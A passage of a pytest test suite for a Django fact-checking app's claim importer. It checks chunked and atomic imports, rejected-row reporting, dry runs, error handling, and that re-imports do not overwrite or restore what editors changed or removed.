    """Skipping invalid rows, every chunk is written, before and after the refused row, which is rejected."""
    job = refused_since_the_preview(admin_user, editor, tmp_path, monkeypatch, ImportMode.SKIP_INVALID)
    seen = []
    job = importing.apply(job, progress=lambda done, total: seen.append((done, total)))
    assert (job.state, job.total_rows, job.created_count, job.rejected_count) == (ImportState.SUCCEEDED, 7, 6, 1)
    assert seen == [(2, 7), (4, 7), (6, 7), (7, 7)]
    assert set(Claim.objects.values_list("import_key", flat=True)) == {f"c{n}" for n in range(1, 8)}
    assert Claim.objects.get(import_key="c3").status == "verified"
    with open(importing.rejected_rows_path(job), newline="", encoding="utf-8") as rejected:
        assert [(line["line"], line["column"], line["field"]) for line in csv.DictReader(rejected)] == [
            ("4", "22", "status")
        ]


def test_refusals_in_two_chunks_are_both_listed_and_counted_and_nothing_is_written(
    admin_user, editor, tmp_path, monkeypatch
):
    """After the first refused row the later chunks are still checked, never written: the failed import
    names every refused row (lines 4 and 7, in the second and third chunks) and its rejected rows hold them."""
    job = refused_since_the_preview(admin_user, editor, tmp_path, monkeypatch, ImportMode.ATOMIC, refused=(3, 6))
    before = counts()
    job = importing.apply(job)
    assert (job.state, job.rejected_count, job.processed_rows) == (ImportState.FAILED, 2, 0)
    assert (
        job.message
        == "Claims changed since the preview and the rules now refuse 2 of the 7 rows. Nothing was imported."
    )
    assert [(error["line"], error["field"]) for error in job.errors] == [(4, "status"), (7, "status")]
    assert ImportJob.objects.get(pk=job.pk).rejected_count == 2
    assert counts() == before
    assert set(Claim.objects.values_list("import_key", "status")) == {("c3", "verified"), ("c6", "verified")}
    with open(importing.rejected_rows_path(job), newline="", encoding="utf-8") as rejected:
        lines = list(csv.DictReader(rejected))
    assert [(line["line"], line["field"]) for line in lines] == [("4", "status"), ("7", "status")]
    assert all("an editor decided this claim is “Verified”" in line["error"] for line in lines)


def test_a_one_pass_import_refused_in_a_chunk_reads_on_for_the_files_own_errors(admin_user, tmp_path, monkeypatch):
    """Imported in one pass, the file's own errors are listed to the end even after a row the rules
    refuse, and so are the later rows the rules refuse (line 7); nothing is written."""
    monkeypatch.setattr(importing, "BATCH_ROWS", 2)
    evidence = {
        "evidence_url": "https://mod.example/1",
        "evidence_summary": "Confirmed.",
        "evidence_stance": "supports",
    }
    verified = [row(f"Claim {n}.", f"Speaker {n}", id=f"c{n}", status="verified", **evidence) for n in (3, 6)]
    run_import(tmp_path, csv_text(*verified), admin_user)
    before = counts()
    rows = [row(f"Claim {n}.", f"Speaker {n}", id=f"c{n}") for n in range(1, 8)]
    refuted = {"status": "false", "evidence_url": "https://x.example/", "evidence_summary": "Refuted."}
    rows[2], rows[5] = rows[2] | refuted, rows[5] | refuted  # lines 4 and 7
    rows[6] |= {"status": "maybe"}  # line 8, in the last chunk
    job = run_import(tmp_path, csv_text(*rows), admin_user)
    assert (job.state, job.total_rows, job.rejected_count) == (ImportState.INVALID, 7, 3)
    assert job.message.startswith("3 of 7 rows have errors, so nothing will be imported.")
    assert [(error["line"], error["field"]) for error in job.errors] == [(4, "status"), (7, "status"), (8, "status")]
    assert "cannot go straight" in job.errors[0]["message"] and "cannot go straight" in job.errors[1]["message"]
    assert "“maybe” is not one of" in job.errors[2]["message"]
    assert counts() == before
    with open(importing.rejected_rows_path(job), newline="", encoding="utf-8") as rejected:
        lines = list(csv.DictReader(rejected))
    assert [(line["line"], line["id"], line["status"]) for line in lines] == [
        ("4", "c3", "false"),
        ("7", "c6", "false"),
        ("8", "c7", "maybe"),
    ]


def test_a_claim_another_import_created_since_the_preview_is_not_created_twice(admin_user, tmp_path):
    path = write_file(tmp_path, csv_text(row(id="c1"), row(id="c2", text="Second.")))
    job = importing.validate(path, filename="claims.csv", user=admin_user)
    run_import(tmp_path, csv_text(row(id="c1")), admin_user, name="other.csv")
    job = importing.apply(job)
    assert (job.created_count, job.unchanged_count) == (1, 1)
    assert Claim.objects.count() == 2


def test_a_dry_run_writes_nothing_and_keeps_no_staged_rows(admin_user):
    before = counts()
    job = importing.import_file(SAMPLE, user=admin_user, dry_run=True)
    assert (job.state, job.created_count, job.staged_path) == (ImportState.VALIDATED, 8, "")
    assert job.message.startswith("Dry run")
    assert counts() == before
    assert not (importing.job_directory(job) / "staged.jsonl").exists()


def test_the_import_job_records_who_when_what_and_how_it_went(admin_user):
    job = importing.import_file(SAMPLE, user=admin_user, mode=ImportMode.ATOMIC)
    job.refresh_from_db()
    assert (job.created_by, job.filename, job.format, job.mode) == (admin_user, "sample-claims.csv", "csv", "atomic")
    assert (job.total_rows, job.processed_rows, job.created_count, job.new_outlets) == (8, 8, 8, 4)
    assert job.started_at <= job.finished_at
    assert job.duration is not None
    assert job.staged_path == ""


def test_a_bug_during_an_import_marks_it_failed_and_is_raised(admin_user, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("a bug")

    monkeypatch.setattr(importing, "write", broken)  # writes each chunk's rows
    job = importing.validate(write_file(tmp_path, csv_text(row())), filename="claims.csv", user=admin_user)
    with pytest.raises(RuntimeError, match="a bug"):
        importing.apply(job)
    job.refresh_from_db()
    assert (job.state, job.message) == (
        ImportState.FAILED,
        "The import stopped on an unexpected error. Nothing was imported.",
    )
    with pytest.raises(RuntimeError, match="a bug"):
        run_import(tmp_path, csv_text(row()), admin_user)
    assert ImportJob.objects.latest("id").state == ImportState.FAILED
    assert Claim.objects.count() == 0


@pytest.mark.postgres
def test_foreign_keys_are_deferred_again_after_an_import_inside_a_larger_transaction(admin_user, tmp_path):
    if connection.vendor != "postgresql":
        pytest.skip("SET CONSTRAINTS is PostgreSQL's")
    # Whatever an import does with the constraints' timing, the caller's transaction (here the
    # test's) keeps the deferred checks Django declares.
    run_import(tmp_path, csv_text(row()), admin_user)
    claim = Claim.objects.get()
    with transaction.atomic():
        Evidence.objects.create(
            claim_id=claim.pk + 1000, summary="s", citation="c", stance="context", added_by=admin_user
        )
        Evidence.objects.filter(claim_id=claim.pk + 1000).update(claim_id=claim.pk)  # fixed before any commit
    assert Evidence.objects.get().claim == claim


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_row_the_database_refuses_fails_the_import_cleanly(admin_user, tmp_path, monkeypatch):
    # A foreign key the database refuses (as if the speaker had been deleted meanwhile): checked
    # at the commit (so the test needs a real one).
    # Either way the database's refusal, not a bug.
    monkeypatch.setattr(importing.writing.Entities, "speaker", lambda self, row: 10**9)
    job = run_import(tmp_path, csv_text(row()), admin_user)
    assert job.state == ImportState.FAILED
    assert job.message.startswith("The database refused the import:")
    assert job.message.endswith("Nothing was imported.")
    assert Claim.objects.count() == 0


def test_ids_drawn_for_an_import_are_never_drawn_again():
    first, second = importing.writing.allocate_ids(Claim, 3), importing.writing.allocate_ids(Claim, 3)
    assert len(set(first) | set(second)) == 6
    assert Claim.objects.count() == 0  # drawn, not written: later rows must still not reuse them


def test_a_verdict_cites_the_same_evidence_whether_imported_or_decided(admin_user, editor, tmp_path):
    """One rule (verification.cites) for the shell, the views, the admin and the importer."""
    speaker = make_speaker("Andrii Kovalenko")
    key = importing.content_key(speaker.name, "Imported then disputed.")
    imported = make_claim("Imported then disputed.", speaker=speaker, import_key=key)
    decided = make_claim("Disputed in the shell.")
    for claim in (imported, decided):
        make_evidence(claim, "refutes", url=f"https://example.org/{claim.pk}/refutes")
        make_evidence(claim, "supports", url=f"https://example.org/{claim.pk}/supports")
        make_evidence(claim, "context", url=f"https://example.org/{claim.pk}/context")

    decided.set_status("disputed", by=editor, reason="The ministry's own figures differ.")
    job = run_import(tmp_path, csv_text(row(imported.text, speaker.name, status="disputed")), admin_user)
    assert (job.created_count, job.updated_count) == (0, 1)

    for claim in (imported, decided):
        event = claim.events.latest("pk")
        assert event.to_status == "disputed"
        assert [item.url for item in event.evidence.all()] == [f"https://example.org/{claim.pk}/refutes"]


def test_relays_split_at_arrows_and_a_spaced_angle_bracket_and_a_name_with_brackets_is_refused(admin_user, tmp_path):
    rows = [
        row("One.", venue="public_remarks", relayed_by="Kyiv Independent → B-17"),
        row("Two.", venue="public_remarks", relayed_by="Kyiv Independent -> Reuters > AFP"),
        row("Three.", venue="public_remarks", relayed_by="<b>B-17</b>"),
        row("Four.", venue="public_remarks", relayed_by="Kyiv Independent>B-17"),
    ]
    job = run_import(tmp_path, csv_text(*rows), admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.created_count, job.rejected_count) == (2, 2)
    assert sorted(Outlet.objects.values_list("name", flat=True)) == ["AFP", "B-17", "Kyiv Independent", "Reuters"]
    assert [(error["line"], error["field"]) for error in job.errors] == [(4, "relayed_by"), (5, "relayed_by")]
    assert "“ > ”" in job.errors[1]["message"]


def test_a_row_the_status_rules_refuse_creates_nothing_of_its_own(admin_user, tmp_path):
    second = {**verified_row(), "id": "c2", "claim": "Another verified claim."}
    run_import(tmp_path, csv_text(verified_row(), second), admin_user)
    tracked = make_speaker("Olena Tracked")  # no title: a row may fill it
    refused = [
        # Flips the verdict in one step: refused against the stored claim, with names, a story and a title of its own.
        row(
            id="c1",
            speaker="Nobody Atall",
            status="false",
            venue="interview",
            outlet="Nowhere Weekly",
            evidence_url="https://x.example/",
            evidence_summary="No.",
            article_headline="A story nobody wrote",
            article_outlet="Nowhere Daily",
        ),
        row("Another verified claim.", "Olena Tracked", id="c2", status="false", speaker_title="Minister"),
    ]
    before = counts()
    job = run_import(tmp_path, csv_text(row("Good one."), *refused), admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.created_count, job.rejected_count, job.new_speakers, job.new_outlets) == (1, 2, 0, 0)
    assert counts() == {**before, "Claim": before["Claim"] + 1, "VerificationEvent": before["VerificationEvent"] + 1}
    tracked.refresh_from_db()
    assert tracked.title == ""
    assert job.summary["completed_speakers"] == 0


def test_a_name_a_refused_row_met_first_is_created_and_counted_for_a_later_row_kept(admin_user, tmp_path, monkeypatch):
    run_import(tmp_path, csv_text(verified_row()), admin_user)
    tracked = make_speaker("Olena Tracked")
    monkeypatch.setattr(importing, "BATCH_ROWS", 1)  # each row a chunk of its own: the refused one comes first
    flipped = row(
        id="c1", speaker="Olena Tracked", speaker_title="Minister", status="false", venue="interview", outlet="Nowhere"
    )
    flipped |= {"evidence_url": "https://x.example/", "evidence_summary": "No."}
    later = row("Kept.", "Olena Tracked", speaker_title="Minister", venue="interview", outlet="Nowhere")
    job = run_import(tmp_path, csv_text(flipped, later), admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.created_count, job.rejected_count, job.new_outlets, job.summary["completed_speakers"]) == (1, 1, 1, 1)
    tracked.refresh_from_db()
    assert tracked.title == "Minister"
    assert Claim.objects.get(text="Kept.").appearances.get().outlet.name == "Nowhere"


def test_a_repeated_row_stays_counted_once_the_preview_is_confirmed(admin_user, tmp_path):
    # The preview counted the repeat; the import it confirms lost it (2 of 3 rows counted).
    rows = [row(), row(), row("Another claim of his.")]
    job = importing.validate(write_file(tmp_path, csv_text(*rows)), filename="claims.csv", user=admin_user)
    assert (job.created_count, job.summary["repeated_rows"], job.summary["staged_rows"]) == (2, 1, 2)
    job = importing.apply(job)
    assert job.state == ImportState.SUCCEEDED
    assert (job.total_rows, job.created_count, job.updated_count, job.unchanged_count) == (3, 2, 0, 0)
    assert "3 rows: 2 claims were created, 0 updated, 0 unchanged; 1 row repeats an earlier one (line 3" in job.message


def test_line_breaks_inside_a_file_s_cells_are_stored_as_lf(admin_user, tmp_path):
    """A spreadsheet's cell written by Windows holds CR LF line breaks: stored as LF, as typed text is."""
    typed, stored = "Seen in two reports.\r\nBoth dated 3 November.", "Seen in two reports.\nBoth dated 3 November."
    sheet = csv_text(
        row(
            quote="We will not stop.\r\nNot this year.",
            status="disputed",
            status_reason=typed,
            evidence_citation="Ministry bulletin",
            evidence_summary=typed,
            evidence_stance="refutes",
        )
    )
    job = run_import(tmp_path, sheet, admin_user)
    assert job.state == ImportState.SUCCEEDED, job.errors
    claim = Claim.objects.get()
    assert claim.quote == "We will not stop.\nNot this year."
    assert claim.evidence.get().summary == stored
    assert claim.events.get().reason.endswith(stored)


def test_reimporting_a_sheet_never_undoes_an_editors_correction_of_a_claims_words_or_speaker(
    admin_user, editor, tmp_path
):
    """The desk corrected a typo and the speaker in the admin; the sheet still has them as they were.
    The row is refused, naming the claim, the fields, who changed them and when, as a verdict is."""
    sheet = csv_text(
        row("Unemployment fell to 8,5%.", "Olena Kovalchuk"), row("Another claim."), columns=["claim", "speaker"]
    )
    run_import(tmp_path, sheet, admin_user)
    claim = Claim.objects.get(text="Unemployment fell to 8,5%.")
    with writing_as(editor, f"POST /admin/factcheck/claim/{claim.pk}/change/"):
        Claim.objects.filter(pk=claim.pk).update(
            text="Unemployment fell to 8.5%.", speaker=make_speaker("José Álvarez")
        )
    revision = claim.revisions.get()
    when = date_format(timezone.localtime(revision.at), "j M Y, H:i T")
    before = counts()
    job = run_import(tmp_path, sheet, admin_user)
    assert job.state == ImportState.INVALID
    assert [str(importing.LineError(**error)) for error in job.errors] == [
        f"claims.csv:2:1: claim: {display_name(editor)} changed claim #{claim.pk}'s words and speaker in the app "
        f"on {when}; an import does not undo an editor's edit: change it in the admin, or write it in the file as "
        "it now is"
    ]
    assert counts() == before
    job = run_import(tmp_path, sheet, admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.updated_count, job.unchanged_count, job.rejected_count) == (0, 1, 1)
    claim.refresh_from_db()
    assert (claim.text, claim.speaker.name, claim.revisions.count()) == (
        "Unemployment fell to 8.5%.",
        "José Álvarez",
        1,
    )


def test_a_field_an_import_changed_may_be_changed_by_the_next_import(admin_user, tmp_path):
    columns = ["id", "claim", "speaker"]
    run_import(tmp_path, csv_text(row("Unemployment fell to 8,5%.", id="c1"), columns=columns), admin_user)
    run_import(tmp_path, csv_text(row("Unemployment fell to 8.5%.", id="c1"), columns=columns), admin_user)
    job = run_import(tmp_path, csv_text(row("Unemployment fell to 8.6%.", id="c1"), columns=columns), admin_user)
    assert (job.state, job.updated_count) == (ImportState.SUCCEEDED, 1)
    assert Claim.objects.get().text == "Unemployment fell to 8.6%."


def test_reimporting_a_sheet_adds_no_appearance_beside_one_an_editor_corrected(admin_user, editor, tmp_path):
    sheet = csv_text(row(venue="press briefing", outlet="Ukrainska Pravda", appearance_url="https://example.org/a"))
    run_import(tmp_path, sheet, admin_user)
    appearance = Appearance.objects.get()
    with writing_as(editor, "POST /admin/factcheck/appearance/"):
        Appearance.objects.filter(pk=appearance.pk).update(venue_type="interview")
    job = run_import(tmp_path, sheet, admin_user)
    assert (job.state, job.unchanged_count) == (ImportState.SUCCEEDED, 1)
    assert list(Appearance.objects.values_list("venue_type", flat=True)) == ["interview"]


def test_reimporting_a_sheet_does_not_add_back_an_appearance_an_editor_removed(admin_user, editor, client, tmp_path):
    """The desk removed a relay it found wrong; the sheet still has it. The preview and the result say
    it is not added back, naming the claim and who removed it, and the rest of the chain stays matched."""
    chain = {"venue": "public remarks", "outlet": "X", "relayed_by": "Kyiv Independent > B-17"}
    sheet = csv_text(row(**chain), row("Another claim.", **chain))
    run_import(tmp_path, sheet, admin_user)
    claim = Claim.objects.get(text=row()["claim"])
    with writing_as(editor, f"POST /admin/factcheck/claim/{claim.pk}/change/"):
        claim.appearances.get(outlet__name="B-17").delete()
    removal = AppearanceRevision.objects.named().get(claim=claim)
    when = date_format(timezone.localtime(removal.at), "j M Y, H:i T")
    said = (
        f"line 2: {display_name(editor)} removed claim #{claim.pk}'s appearance {removal.summary()} in the app on "
        f"{when}; an import does not add back what an editor removed"
    )
    before = counts()
    job = importing.validate(write_file(tmp_path, sheet), filename="claims.csv", user=admin_user)
    assert (job.created_count, job.updated_count, job.unchanged_count) == (0, 0, 2)
    assert job.summary["removed_appearances"] == [said]
    assert f"1 appearance an editor removed is not added back ({said})" in job.message
    client.force_login(admin_user)
    page = client.get(reverse("admin:factcheck_importjob_import", args=[job.pk])).text
    assert escape(said) in page
    job = importing.apply(job)
    assert (job.state, job.unchanged_count) == (ImportState.SUCCEEDED, 2)
    assert said in job.message
    assert counts() == before
    assert list(claim.appearances.values_list("outlet__name", flat=True)) == ["X", "Kyiv Independent"]


def test_reimporting_a_sheet_does_not_add_back_a_chain_an_editor_removed_whole(admin_user, editor, tmp_path):
    sheet = csv_text(row(venue="public remarks", outlet="X", relayed_by="Kyiv Independent > B-17"))
    run_import(tmp_path, sheet, admin_user)
    claim = Claim.objects.get()
    with writing_as(editor, f"POST /admin/factcheck/claim/{claim.pk}/change/"):
        for appearance in claim.appearances.order_by("-id"):  # a relay first: the one it relays is protected
            appearance.delete()
    job = run_import(tmp_path, sheet, admin_user)
    assert (job.state, job.unchanged_count, job.summary["removed_appearance_count"]) == (ImportState.SUCCEEDED, 1, 1)
    assert not claim.appearances.exists()


def test_an_appearance_an_editor_corrected_then_removed_is_not_added_back_as_it_was_imported(
    admin_user, editor, tmp_path
):
    sheet = csv_text(row(venue="press briefing", outlet="Ukrainska Pravda", appearance_url="https://example.org/a"))
    run_import(tmp_path, sheet, admin_user)
    appearance = Appearance.objects.get()
    with writing_as(editor, "POST /admin/factcheck/appearance/"):
        Appearance.objects.filter(pk=appearance.pk).update(venue_type="interview")
        Appearance.objects.filter(pk=appearance.pk).delete()
    job = run_import(tmp_path, sheet, admin_user)
    assert (job.state, job.unchanged_count, job.summary["removed_appearance_count"]) == (ImportState.SUCCEEDED, 1, 1)
    assert not Appearance.objects.exists()
